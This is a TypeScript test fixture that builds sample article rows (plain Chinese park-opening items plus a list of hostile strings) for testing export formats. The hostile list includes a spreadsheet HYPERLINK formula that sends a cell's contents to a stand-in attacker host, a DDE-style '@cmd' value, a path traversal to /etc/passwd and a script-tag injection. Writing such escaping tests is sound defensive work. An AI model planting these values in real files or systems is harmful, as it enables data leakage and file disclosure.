/** Rows for the tests of formats: ordinary ones, and such as no page should have but some do. */
import type { ExportRow } from '../../src/export/index.js';
import { article } from '../storage/article.js';

export const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"点击")',
  "'=1+1",
  "'quoted'",
  '＝SUM(A1)',
  '-2+3',
  '\t@cmd',
  'a,"b",c\r\nd\ne',
  ' 前后有空格 ',
  '../../etc/passwd',
  'CON',
  '关于<script>alert(1)</script>与 ]]> & "引号"',
  '---\ntitle: other\n---',
  '# 不是标题\n1. 不是列表\n> 不是引用\n===',
  '\u0000\u0007\ud800\u202e\u2028末',
  '長'.repeat(400),
];

export function row(i: number, title: string, text: readonly string[], more: Partial<ExportRow> = {}): ExportRow {
  return {
    article: article(`http://garden.example/htm/${i}.html`, title, text),
    attachments: [],
    version: {
      number: 1,
      of: 1,
      capturedAt: '2020-01-01T00:00:00Z',
      origin: 'source',
      digest: `sha256:${'0'.repeat(64)}`,
    },
    cluster: null,
    goneAt: null,
    ...more,
  };
}

export function rows(): ExportRow[] {
  const plain = Array.from({ length: 30 }, (_, i) =>
    row(i, `第${i}座公园开放`, [`第${i}座公园今日开放，园内种了${i}株水杉。`, '市民可以免费入园。']),
  );
  const hostile = HOSTILE.map((text, i) => row(100 + i, text, [text, '第二段。', text]));
  const first = plain[0]!;
  const second = { ...first, version: { ...first.version, number: 2, of: 2, capturedAt: '2020-02-01T00:00:00Z' } };
  return [{ ...first, version: { ...first.version, of: 2 } }, second, ...plain.slice(1), ...hostile];
}
